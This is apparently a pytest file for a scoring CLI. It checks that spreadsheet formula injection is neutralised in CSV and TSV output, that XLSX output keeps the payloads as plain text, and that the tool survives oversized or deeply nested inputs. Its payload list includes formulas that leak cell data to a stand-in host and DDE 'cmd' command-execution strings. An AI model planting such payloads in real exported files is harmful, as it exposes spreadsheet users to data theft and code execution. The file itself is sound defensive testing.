"""Output opened in a spreadsheet: text that a spreadsheet program would run as a
formula (the payloads below, in group ids, passed-through cells and the errors
sheet's value column) is neutralised in .csv and .tsv, and stays text in .xlsx.
Also: the real ``kematangan`` command, started as a program, on the worst inputs."""

from __future__ import annotations

import csv
import resource
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from tests.hostile.cases import CASES
from tests.hostile.harness import Server

PAYLOADS = [
    '=HYPERLINK("http://x.example/?leak="&A1,"klik")',
    "@SUM(1)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "@A1",
    '=IMPORTXML(CONCAT("http://x.example/?", A1), "//a")',
    '=WEBSERVICE("http://x.example")',
]
"""The eleven payloads of issue 12's table, in every column they can reach."""


def _input(folder: Path) -> Path:
    path = folder / "ksm.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        out = csv.writer(fh)
        out.writerow(["Kode KSM", "Jumlah anggota", "Catatan"])
        for i, payload in enumerate(PAYLOADS):
            out.writerow([f"{payload}#{i}", payload, payload])
        out.writerow(["KSM-NEG", "-3", "-3"])
    return path


def _formula_like(field: str) -> bool:
    if not field or field[0] not in "=+-@\t\r":
        return False
    body = field[1:]
    return not (field[0] in "+-" and body.replace(".", "").replace(",", "")
                .isdigit())


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_text_that_starts_like_a_formula_is_neutralised(suffix: str, server: Server,
                                                        tmp_path: Path) -> None:
    out = tmp_path / f"hasil{suffix}"
    run = server.run("cli", {"argv": ["score", str(_input(tmp_path)), "-r",
                                      "ppmk-ksm", "-o", str(out)]},
                     memory=1536 << 20, seconds=60)
    assert run.exit == 0, run.stderr
    written = sorted(tmp_path.glob(f"hasil*{suffix}"))
    assert len(written) == 5  # results, errors, columns, summary, ruleset
    seen: set[str] = set()
    for path in written:
        with path.open(encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh, delimiter="\t" if suffix == ".tsv" else ","):
                assert not any(_formula_like(v) for v in row), (path.name, row)
                seen.update(row)
    for payload in PAYLOADS:
        assert "'" + payload in seen, payload  # passed through, quoted
    assert "-3" in seen  # a negative number stays a number


def test_machine_readers_can_turn_neutralising_off(server: Server,
                                                   tmp_path: Path) -> None:
    out = tmp_path / "hasil.csv"
    run = server.run("cli", {"argv": ["score", str(_input(tmp_path)), "-r",
                                      "ppmk-ksm", "-o", str(out),
                                      "--no-escape-formulas"]},
                     memory=1536 << 20, seconds=60)
    assert run.exit == 0, run.stderr
    with out.open(encoding="utf-8", newline="") as fh:
        cells = {v for row in csv.reader(fh) for v in row}
    assert set(PAYLOADS) <= cells


def test_xlsx_output_holds_payloads_as_text_not_formulas(server: Server,
                                                         tmp_path: Path) -> None:
    import python_calamine as pc

    out = tmp_path / "hasil.xlsx"
    run = server.run("cli", {"argv": ["score", str(_input(tmp_path)), "-r",
                                      "ppmk-ksm", "-o", str(out)]},
                     memory=1536 << 20, seconds=60)
    assert run.exit == 0, run.stderr
    with zipfile.ZipFile(out) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name), name
    book = pc.CalamineWorkbook.from_path(out)
    cells = {v for name in book.sheet_names
             for row in book.get_sheet_by_name(name).iter_rows() for v in row}
    assert set(PAYLOADS) <= cells


WORST = ["xlsx-only-cell-at-XFD1048576", "xlsx-shared-strings-bomb-192MB",
         "xls-dimensions-declare-4e9-rows", "jsonl-line-nested-100000-deep"]


@pytest.mark.parametrize("case_id", WORST)
def test_the_real_command_survives_the_worst_files(case_id: str,
                                                   tmp_path: Path) -> None:
    case = next(c for c in CASES if c.id == case_id)
    path = case.make(tmp_path)
    argv = [str(Path(sys.executable).with_name("kematangan")), "score", str(path),
            "-r", "ppmk-ksm", "-o", str(tmp_path / "out.csv")]
    for name, value in case.limits.items():
        argv += ["--limit", f"{name}={value}"]

    def cap() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (1536 << 20, 1536 << 20))

    done = subprocess.run(argv, capture_output=True, text=True, timeout=60,
                          preexec_fn=cap, env={"OPENBLAS_NUM_THREADS": "1",
                                               "PATH": "/usr/bin:/bin"})
    assert done.returncode == (1 if case.outcome == "refused" else 0), done.stderr
    assert "Traceback" not in done.stderr
